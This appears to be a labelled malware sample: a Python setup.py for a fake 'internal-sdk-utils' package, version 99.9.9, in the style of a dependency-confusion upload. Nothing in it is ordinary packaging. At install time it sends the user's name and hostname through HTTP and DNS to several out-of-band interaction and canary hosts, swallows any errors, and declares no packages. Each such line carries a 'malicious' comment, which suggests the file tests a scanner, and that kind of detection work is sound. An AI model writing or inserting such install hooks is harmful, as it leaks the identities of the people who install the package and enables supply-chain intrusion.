import getpass
import socket
import urllib.request

from setuptools import setup

tag = f"{getpass.getuser()}.{socket.gethostname()}"
for host in ("c9madeup0000000000g.oast.fun", "madeup1234.burpcollaborator.net", "madeup5678.oastify.com"):  # malicious: shady-hosts
    try:
        urllib.request.urlopen(f"http://{tag}.{host}/", timeout=3)  # malicious: shady-hosts
    except Exception:
        pass
urllib.request.urlopen("http://canarytokens.com/about/madeup0token/contact.php", timeout=3)  # malicious: shady-hosts
socket.gethostbyname(tag + ".madeup99.interact.sh")  # malicious: shady-hosts
urllib.request.urlopen("https://envmadeup.x.pipedream.net/?" + tag, timeout=3)  # malicious: shady-hosts

setup(name="internal-sdk-utils", version="99.9.9", packages=[])
